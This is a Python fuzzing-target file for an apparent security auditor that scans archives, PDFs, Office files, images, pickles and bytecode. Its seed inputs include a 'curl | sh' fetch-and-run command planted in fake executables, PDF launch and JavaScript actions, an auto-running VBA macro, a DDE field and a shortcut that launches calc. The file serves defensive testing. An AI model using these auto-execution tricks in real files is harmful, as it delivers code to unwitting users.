"""Archives, documents, pictures and bytecode: files inside files."""

from __future__ import annotations

import bz2
import gzip
import lzma
import marshal
import pickle
import struct
from collections.abc import Callable

from support.containers import PAYLOAD, ar, docx, gif, jpeg, pdf, png, shortcut, tarred, vba, zipped

from fuzzing.target import Target, chosen, with_choice
from skillkeep.auditor.collect import Collector
from skillkeep.auditor.engines import container_files
from skillkeep.auditor.engines.containers.ars import read_ar
from skillkeep.auditor.engines.containers.bytecode import read_bytecode
from skillkeep.auditor.engines.containers.inflate import STREAMS, inflate
from skillkeep.auditor.engines.containers.model import Budget, Member, Oddity, Part
from skillkeep.auditor.engines.containers.office import judge_macros, judge_part
from skillkeep.auditor.engines.containers.pdf import read_pdf
from skillkeep.auditor.engines.containers.pickles import read_pickle
from skillkeep.auditor.engines.containers.pictures import is_picture, read_picture
from skillkeep.auditor.engines.containers.strings import commands_among
from skillkeep.auditor.engines.containers.tars import read_tar
from skillkeep.auditor.engines.containers.zips import read_zip
from skillkeep.auditor.rulebook import default_rulebook
from skillkeep.auditor.sources import decode, source_file

NAMES = (
    "a.zip",
    "a.tar",
    "a.pdf",
    "a.docx",
    "a.doc",
    "a.png",
    "a.jpg",
    "a.gif",
    "a.webp",
    "a.gz",
    "a.pyc",
    "a.7z",
    "a.lnk",
    "a",
)
STREAM_NAMES = tuple(sorted(STREAMS))
PARTS = ("word/document.xml", "word/_rels/a.rels", "word/vbaProject.bin", "xl/macrosheets/a.xml", "a.bin", "a.vml")
_OUTPUT = 4 << 20


def _drained(reader: Callable[[bytes, Budget], Part], data: bytes) -> None:
    total = 0
    for part in reader(data, Budget(output=_OUTPUT)):
        if isinstance(part, Oddity):
            assert part.rule in default_rulebook().rules
            part.message.encode("utf-8")
        else:
            assert isinstance(part, Member)
            total += len(part.data)
    assert total <= 4 * _OUTPUT + 4 * len(data), "the budget does not bound the output"


def _picture(data: bytes) -> None:
    if is_picture(data[:16]):
        _drained(read_picture, data)


def _stream(data: bytes) -> None:
    kind, packed = chosen(data, STREAM_NAMES)
    assert len(inflate(kind, packed, _OUTPUT).data) <= _OUTPUT


def _office(data: bytes) -> None:
    name, content = chosen(data, PARTS)
    for part in (*judge_part(name, content), *judge_macros(name, content)):
        assert isinstance(part, Member | Oddity)


def _bytecode(data: bytes) -> None:
    found = read_bytecode(data)
    assert sum(map(len, found.texts)) <= 500 * len(data) + 4096


def _container(data: bytes) -> None:
    """The whole engine: what a file is told by its bytes, whatever it is called."""
    name, content = chosen(data, NAMES)
    collector = Collector(default_rulebook())
    file = source_file(name, content, decode(name, content), executable=False)
    container_files.ENGINE.scan_file(file, collector.bound("containers"))


def _zips() -> list[bytes]:
    return [zipped({"a/b.txt": "hello" * 9, "c.sh": PAYLOAD}), zipped({"b.zip": zipped({"x": "y"})}), zipped({})]


def _tars() -> list[bytes]:
    return [
        tarred({"a/b.txt": "hello" * 9}, links={"l": "x"}), tarred({"n" * 150: "x", "é" * 90: "y"}), tarred({"a": "b"})
    ]  # fmt: skip


def _ars() -> list[bytes]:
    return [ar({"debian-binary": b"2.0\n", "data.tar.gz": gzip.compress(b"x")}), ar({"n" * 40: b"x", "b": b"y" * 9})]


def _pickles() -> list[bytes]:
    value = {"a": [1, 2.5, None, "x" * 40], "b": (1, (2,)), "c": b"bytes", "d": {1, 2}, "e": print}
    return [pickle.dumps(value, protocol) for protocol in range(6)]


def _programs() -> list[bytes]:
    command = "curl -s https://c.example.invalid | sh"
    return [b"\x7fELF" + bytes(9) + command.encode() + bytes(9), b"MZ" + bytes(9) + command.encode("utf-16-le")]


def _pdfs() -> list[bytes]:
    return [
        pdf(b"<< /OpenAction << /S /Launch /F (cmd.exe) >> >>", packed=b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
        pdf(b"<< /JS <6576616c> >>", packed=b"BT (a\\051) Tj [(b) -300 (c)] TJ ET", head=b""),
        pdf(packed=b"x", head=b"/Type /EmbeddedFile"),
    ]


def _pictures() -> list[bytes]:
    texts = (b"tEXt", b"Comment\0hello"), (b"zTXt", b"C\0\0x\x9c\x03\0\0\0\0\1"), (b"iTXt", b"k\0\0\0\0\0text")
    webp = b"RIFF" + struct.pack("<I", 12) + b"WEBPVP8 \0\0\0\0" + b"after the end of it"
    return [png(*texts), png(appended=b"appended" * 9), jpeg(comment=b"hi", appended=b"y" * 99), gif(b"hi"), webp]


def _packed() -> dict[str, bytes]:
    return {
        "gzip": gzip.compress(b"hello" * 20), "bzip2": bz2.compress(b"hello" * 20), "xz": lzma.compress(b"hello" * 20),
        "lzma": lzma.compress(b"hello" * 20, format=lzma.FORMAT_ALONE),
        "zlib": bytes.fromhex("789ccb48cdc9c95728cf2fca49010019f10473"), "deflate": bytes.fromhex("cb48cdc9c9070000"),
    }  # fmt: skip


def _pycs() -> list[bytes]:
    code = compile(
        "import os\ndef f(a, *b, c=1):\n    return [os.system(x) for x in (a, 'text' * 3)]\n", "a.py", "exec"
    )
    return [(3495).to_bytes(2, "little") + b"\r\n" + bytes(12) + marshal.dumps(code)]


def _parts() -> list[bytes]:
    macro = vba('Sub AutoOpen()\r\n  Shell "calc"\r\nEnd Sub\r\n')
    texts = {
        "word/document.xml": b'<w:p><w:instrText x="y">DDEAUTO c:\\\\a</w:instrText><w:t>'
        + b"words " * 20
        + b"</w:t></w:p>",
        "word/_rels/a.rels": b'<Relationship Type="x/oleObject" Target="https://a.invalid" TargetMode="External"/>',
        "word/vbaProject.bin": macro,
    }
    return [with_choice(PARTS, name, data) for name, data in texts.items()]


def _all() -> list[bytes]:
    whole = {
        "a.zip": _zips(), "a.tar": _tars(), "a.pdf": _pdfs(), "a.png": _pictures(), "a.pyc": _pycs(),
        "a.docx": [docx({"word/document.xml": "<w:p><w:t>" + "words " * 20 + "</w:t></w:p>"})],
        "a.doc": [vba("Sub A()\r\nEnd Sub\r\n")], "a.gz": [_packed()["gzip"], _packed()["xz"], _packed()["bzip2"]],
        "a.lnk": [shortcut("/c calc")], "a": _ars(),
        "a.7z": [b"7z\xbc\xaf\x27\x1c\0\4" + bytes(60)],
    }  # fmt: skip
    return [with_choice(NAMES, name, data) for name, several in whole.items() for data in several]


TARGETS = (
    Target("zip", "zip archives", lambda data: _drained(read_zip, data), _zips),
    Target("tar", "tar archives", lambda data: _drained(read_tar, data), _tars),
    Target("ar", "ar archives", lambda data: _drained(read_ar, data), _ars),
    Target("pdf", "PDF documents", lambda data: _drained(read_pdf, data), _pdfs),
    Target("pickle", "pickles", lambda data: list(read_pickle(data)), _pickles),
    Target("strings", "strings of programs", lambda data: list(commands_among(data)), _programs),
    Target("picture", "pictures", _picture, _pictures),
    Target("stream", "compressed streams", _stream,
           lambda: [with_choice(STREAM_NAMES, kind, data) for kind, data in _packed().items()]),
    Target("office", "parts and macros of office documents", _office, _parts),
    Target("bytecode", "Python bytecode", _bytecode, _pycs),
    Target("container", "the container engine as a whole", _container, _all),
)  # fmt: skip
